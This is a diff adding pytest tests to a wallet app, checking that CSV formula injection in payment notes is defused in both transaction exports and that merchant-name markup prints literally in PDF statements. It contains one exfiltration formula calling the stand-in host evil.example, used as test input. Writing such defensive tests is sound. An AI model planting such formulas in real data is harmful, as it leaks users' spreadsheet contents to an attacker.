@@ -2,6 +2,7 @@
 
 import csv
 import io
+import zipfile
 from datetime import UTC, datetime, timedelta
 
 import pytest
@@ -9,6 +10,7 @@ import pytest
 from tests.conftest import LiveServer
 from tests.factories import make_user
 from tests.graphql_client import call, send, token_for
+from tests.merchant_helpers import create, customer, pay, shop
 from wallet.db.engine import connection
 from wallet.exports.service import generate_requested, generate_statement
 
@@ -94,3 +96,55 @@ async def test_statements_are_built_by_the_worker_and_only_for_their_owner(
     assert len(await call(live_server, token, STATEMENTS)) == 1
     future = await call(live_server, token, REQUEST, {"m": "2099-01-01"})
     assert future["fieldErrors"] == [{"field": "month", "code": "INVALID"}]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")'
+
+
+async def test_a_formula_in_a_note_is_defused_in_both_csv_exports(
+    live_server: LiveServer,
+) -> None:
+    # The review's finding 10: the GDPR archive's transactions.csv kept the formula.
+    alice, bob = await make_user(balance="20.00"), await make_user()
+    token = await token_for(live_server, alice)
+    await send(live_server, token, bob.username, "1.00", note=FORMULA)
+    today = datetime.now(UTC).date()
+
+    _, _, export = await download(
+        live_server, f"/export/transactions.csv?from={today}&to={today}", token
+    )
+    _, _, archive = await download(live_server, "/export/my-data.zip", token)
+    gdpr = zipfile.ZipFile(io.BytesIO(archive)).read("transactions.csv")
+    for body in (export, gdpr):
+        notes = [r["note"] for r in csv.DictReader(io.StringIO(body.decode()))]
+        assert "'" + FORMULA in notes
+        assert FORMULA not in notes
+
+
+async def test_a_merchant_name_with_markup_is_printed_not_run_in_the_statement(
+    live_server: LiveServer,
+) -> None:
+    _, owner_token, merchant_id = await shop(live_server)
+    async with connection() as conn:
+        await conn.execute(
+            "UPDATE merchant SET name = $2 WHERE id = $1", int(merchant_id), "<b>Bad & Co"
+        )
+    buyer, buyer_token = await customer(live_server)
+    request = (await create(live_server, owner_token, merchant_id, amount="3.00"))["request"]
+    assert (await pay(live_server, buyer_token, request["id"]))["__typename"] == (
+        "PayPaymentRequestPayload"
+    )
+    pdf = await generate_statement_bytes(buyer.id)
+    # The literal text, drawn in runs: "Paid <", "b", ">", "Bad & Co" (no bold font).
+    assert b"(Paid <) Tj" in pdf and b"(Bad & Co) Tj" in pdf
+
+
+async def generate_statement_bytes(user_id: int) -> bytes:
+    month = datetime.now(UTC).date().replace(day=1)
+    await generate_statement(user_id, month)
+    async with connection() as conn:
+        return bytes(
+            await conn.fetchval(
+                "SELECT pdf FROM statement WHERE user_id = $1 AND month = $2", user_id, month
+            )
+        )
